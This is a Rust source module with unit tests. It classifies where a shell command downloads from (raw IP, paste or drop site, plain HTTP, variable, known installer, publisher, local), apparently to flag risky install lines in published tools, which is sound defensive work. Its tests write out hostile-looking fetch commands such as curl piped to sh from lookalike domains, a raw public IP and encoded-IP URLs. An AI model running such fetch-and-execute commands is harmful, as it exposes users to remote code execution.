//! Where a command fetches from: the URL or host in it, and what kind of
//! host that is. The publisher's own domains and well-known installers are
//! a small table keyed by GitHub owner, so "the publisher's own domain" is
//! never guessed from a name that merely looks like the owner's (anyone
//! can register `<owner>.dev`).

/// What kind of place a fetched script comes from, most suspicious first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum HostKind {
    /// A public IP address (dotted, decimal or hex) instead of a name.
    RawIp,
    /// A paste, file-drop, tunnel or URL-shortener service.
    DropSite,
    /// Plain `http://` from a public name: anyone on the path can swap it.
    PlainHttp,
    /// An address the text builds at run time (`$URL`, `$(...)`).
    Variable,
    /// Any other public name.
    Unknown,
    /// A well-known tool's official installer domain (the table below).
    Installer,
    /// The publishing repository's own domain or GitHub account.
    Publisher,
    /// Loopback, private or documentation addresses, `localhost`.
    Local,
}

mod tables;

pub use tables::{DROP_SITES, INSTALLERS, INSTALLER_OWNERS_ON_GITHUB};

/// Where a command's fetch goes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// Its kind.
    pub kind: HostKind,
    /// The host as written (empty for a variable).
    pub host: String,
}

/// The fetch target of `command`, classified for `owner`: of the URLs
/// with a scheme after the fetch word, the most suspicious (a line takes
/// the worst of its hosts, so a known installer named first cannot vouch
/// for the one that is run); else a bare `host/path` argument, else a
/// `$VARIABLE`.
pub fn target(command: &str, owner: &str) -> Option<Target> {
    let lower = command.to_ascii_lowercase();
    use super::signals::{FETCH_CALLS, FETCH_COMMANDS};
    let after_fetch = FETCH_COMMANDS
        .iter()
        .chain(FETCH_CALLS)
        .filter_map(|w| lower.find(w).map(|i| i + w.len()))
        .min()
        .unwrap_or(0);
    let command = &command[after_fetch..];
    if let Some(worst) = url_targets(command, owner)
        .into_iter()
        .min_by_key(|t| t.kind)
    {
        return Some(worst);
    }
    let tokens: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | '|'))
        .filter(|t| !t.is_empty())
        .collect();
    const TAKES_VALUE: &[&str] = &[
        "-o", "--output", "-H", "--header", "-d", "--data", "-u", "--user", "-A", "-e", "-x", "-w",
        "-b", "-c", "-T", "-F", "--form", "-K", "-O", "-OutFile", "-P",
    ];
    let mut previous = "";
    for token in tokens.iter().copied() {
        if token.contains('$') || token.starts_with('%') {
            if !TAKES_VALUE.contains(&previous) {
                return Some(Target {
                    kind: HostKind::Variable,
                    host: String::new(),
                });
            }
        } else if !token.starts_with('-')
            && !TAKES_VALUE.contains(&previous)
            && looks_like_host(token)
        {
            return Some(classify(token, false, owner));
        }
        previous = token;
    }
    None
}

/// Every URL with a scheme in `text`, classified for `owner`.
fn url_targets(text: &str, owner: &str) -> Vec<Target> {
    text.split(|c: char| {
        c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | '|' | '<' | '>')
    })
    .filter_map(|token| {
        let at = token.find("://")?;
        let before = &token[..at];
        let scheme = before
            .char_indices()
            .rev()
            .find(|(_, c)| !c.is_ascii_alphabetic())
            .map_or(before, |(i, c)| &before[i + c.len_utf8()..]);
        (!scheme.is_empty())
            .then(|| classify(&token[at + 3..], scheme.eq_ignore_ascii_case("http"), owner))
    })
    .collect()
}

/// Every URL with a scheme on `line`, classified with no publisher
/// (where a line sends data, whoever owns the skill is no excuse).
pub fn targets(line: &str) -> Vec<Target> {
    url_targets(line, "")
}

/// Whether `token` (no scheme) starts with a host name: labels with a dot
/// and an alphabetic top-level label, or an IP address.
fn looks_like_host(token: &str) -> bool {
    let host = token.split(['/', ':']).next().unwrap_or("");
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
        && (labels.last().is_some_and(|tld| {
            (2..=24).contains(&tld.len()) && tld.bytes().all(|b| b.is_ascii_alphabetic())
        }) || ipv4(host).is_some())
}

/// Classifies the host at the start of `rest` (a URL after its scheme).
pub fn classify(rest: &str, plain_http: bool, owner: &str) -> Target {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let authority = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        authority.split(':').next().unwrap_or("")
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let path = rest.get(authority.len()..).unwrap_or("");
    let kind = host_kind(&host, path, plain_http, owner);
    Target { kind, host }
}

fn host_kind(host: &str, path: &str, plain_http: bool, owner: &str) -> HostKind {
    if host.is_empty() || host.contains('$') || host.contains('{') {
        return HostKind::Variable;
    }
    if let Some(local) = ip_is_local(host) {
        return if local {
            HostKind::Local
        } else {
            HostKind::RawIp
        };
    }
    if host == "localhost"
        || is_private_name(host)
        || host.ends_with(".example")
        || is_under(host, "example.com")
        || is_under(host, "example.org")
    {
        return HostKind::Local;
    }
    if DROP_SITES.iter().any(|d| is_under(host, d)) {
        return HostKind::DropSite;
    }
    if plain_http {
        return HostKind::PlainHttp;
    }
    let github_owner = match host {
        "raw.githubusercontent.com"
        | "github.com"
        | "gist.githubusercontent.com"
        | "objects.githubusercontent.com" => {
            path.trim_start_matches('/').split('/').next().unwrap_or("")
        }
        _ => host.strip_suffix(".github.io").unwrap_or(""),
    };
    if !github_owner.is_empty() {
        // The skill's own GitHub account is its publisher only when the
        // installer table knows that owner: anyone can host a payload on
        // an account named like their own repository's.
        let known_owner = !owner.is_empty()
            && INSTALLERS
                .iter()
                .any(|(_, owners)| owners.iter().any(|o| o.eq_ignore_ascii_case(owner)));
        return if known_owner && github_owner.eq_ignore_ascii_case(owner) {
            HostKind::Publisher
        } else if INSTALLER_OWNERS_ON_GITHUB
            .iter()
            .any(|o| o.eq_ignore_ascii_case(github_owner))
        {
            HostKind::Installer
        } else {
            HostKind::Unknown
        };
    }
    match INSTALLERS.iter().find(|(domain, _)| is_under(host, domain)) {
        Some((_, owners)) if owners.iter().any(|o| o.eq_ignore_ascii_case(owner)) => {
            HostKind::Publisher
        }
        Some(_) => HostKind::Installer,
        None => HostKind::Unknown,
    }
}

/// Names that resolve only on the machine or its own network (mDNS, a
/// cluster's services, a cloud's internal zone).
pub const PRIVATE_SUFFIXES: &[&str] = &[
    ".localhost",
    ".local",
    ".internal",
    ".lan",
    ".home.arpa",
    ".svc",
    ".svc.cluster.local",
];

/// Whether `host` is a name that stays on the machine or its network.
pub fn is_private_name(host: &str) -> bool {
    PRIVATE_SUFFIXES.iter().any(|s| host.ends_with(s))
}

/// Whether `host` is `domain` or one of its subdomains.
pub fn is_under(host: &str, domain: &str) -> bool {
    host == domain || host.strip_suffix(domain).is_some_and(|p| p.ends_with('.'))
}

/// `Some(true)` for a loopback, private, link-local, unspecified or
/// documentation address; `Some(false)` for another IP address; `None`
/// when `host` is a name. Dotted, single decimal and hex forms count
/// (`http://3232235777/` is an address too).
pub fn ip_is_local(host: &str) -> Option<bool> {
    if host.contains(':') {
        let h = host.to_ascii_lowercase();
        if !h
            .bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
        {
            return None;
        }
        // An IPv4 address mapped into IPv6 (`::ffff:127.0.0.1`) is that address.
        if let Some(v4) = h.rsplit(':').next().filter(|last| last.contains('.')) {
            return ip_is_local(v4);
        }
        let local = h == "::1"
            || h == "::"
            || h.starts_with("fe80:")
            || h.starts_with("fc")
            || h.starts_with("fd")
            || h.starts_with("2001:db8:");
        return Some(local);
    }
    let [a, b, c, _] = ipv4(host)?;
    // Loopback, private, carrier-grade NAT (Tailscale), link-local,
    // unspecified, documentation ranges.
    Some(matches!(
        (a, b, c),
        (127 | 10 | 0, _, _)
            | (172, 16..=31, _)
            | (192, 168, _)
            | (100, 64..=127, _)
            | (169, 254, _)
            | (192, 0, 2)
            | (198, 51, 100)
            | (203, 0, 113)
    ))
}

/// The four octets of an IPv4 address written dotted (each part decimal,
/// hex or octal) or as one number.
pub fn ipv4(host: &str) -> Option<[u8; 4]> {
    let part = |p: &str| -> Option<u64> {
        if let Some(hex) = p.strip_prefix("0x").or_else(|| p.strip_prefix("0X")) {
            u64::from_str_radix(hex, 16).ok()
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(p, 8).ok()
        } else if !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()) {
            p.parse().ok()
        } else {
            None
        }
    };
    let parts: Vec<u64> = host.split('.').map(part).collect::<Option<_>>()?;
    let value = match parts.as_slice() {
        [n] if *n > 0xFFFF => *n,
        [a, b, c, d] if parts.iter().all(|p| *p <= 255) => (a << 24) | (b << 16) | (c << 8) | d,
        _ => return None,
    };
    (value <= 0xFFFF_FFFF).then(|| (value as u32).to_be_bytes())
}

/// The owner of `owner/name`.
pub fn owner_of(repo: &str) -> &str {
    repo.split('/').next().unwrap_or("")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(command: &str, owner: &str) -> Option<HostKind> {
        target(command, owner).map(|t| t.kind)
    }

    #[test]
    fn publisher_installer_and_strangers() {
        use HostKind::*;
        assert_eq!(
            kind("curl -LsSf https://hf.co/cli/install.sh", "huggingface"),
            Some(Publisher)
        );
        assert_eq!(
            kind("curl -LsSf https://hf.co/cli/install.sh", "someone"),
            Some(Installer)
        );
        // An owner's own account counts only when the table knows it.
        assert_eq!(
            kind(
                "curl -fsSL https://raw.githubusercontent.com/me/tool/main/i.sh",
                "me"
            ),
            Some(Unknown)
        );
        assert_eq!(
            kind(
                "curl -fsSL https://raw.githubusercontent.com/huggingface/t/main/i.sh",
                "huggingface"
            ),
            Some(Publisher)
        );
        // A line takes the worst of its hosts.
        assert_eq!(
            kind(
                "curl -e https://get.docker.com https://cdn-metrics.net/p",
                "me"
            ),
            Some(Unknown)
        );
        assert_eq!(
            kind(
                "curl -fsSL https://raw.githubusercontent.com/you/tool/main/i.sh",
                "me"
            ),
            Some(Unknown)
        );
        assert_eq!(
            kind("curl -fsSL https://huggingface.co.evil.io/x", "huggingface"),
            Some(Unknown)
        );
        assert_eq!(kind("curl -fsSL evilhf.co/x", "huggingface"), Some(Unknown));
        assert_eq!(kind("curl -fsSL get.docker.com", "me"), Some(Installer));
        assert_eq!(
            kind("curl -o install.sh http://91.92.242.30/x", "me"),
            Some(RawIp)
        );
        assert_eq!(kind("curl http://3232235777/x", "me"), Some(Local));
        assert_eq!(kind("curl http://1539178014/x", "me"), Some(RawIp));
        assert_eq!(
            kind("curl https://glot.io/snippets/x/raw", "me"),
            Some(DropSite)
        );
        assert_eq!(kind("curl http://example.net/x.sh", "me"), Some(PlainHttp));
        assert_eq!(kind("curl -s \"$URL\"", "me"), Some(Variable));
        assert_eq!(kind("curl -s http://localhost:8080/x", "me"), Some(Local));
        assert_eq!(kind("curl -fsSL", "me"), None);
        // Named after the owner is no publisher: only the table says so.
        assert_eq!(
            kind("curl -fsSL https://install.duckdb.org | sh", "duckdb"),
            Some(Unknown)
        );
        assert_eq!(
            kind("curl -fsSL https://cli.acme.ai/i | sh", "acmeai"),
            Some(Unknown)
        );
        assert_eq!(
            kind("curl -fsSL https://cli.acme.ai/i | sh", "acmefan"),
            Some(Unknown)
        );
        assert_eq!(
            kind("curl -fsSL https://acme.netlify.app/i | sh", "acme"),
            Some(Unknown)
        );
        assert_eq!(
            kind("curl -fsSL https://acme.co.uk/i | sh", "acme"),
            Some(Unknown)
        );
        assert_eq!(kind("curl http://[::ffff:127.0.0.1]/x", "me"), Some(Local));
        assert_eq!(kind("curl http://100.101.102.103/x", "me"), Some(Local));
    }
}
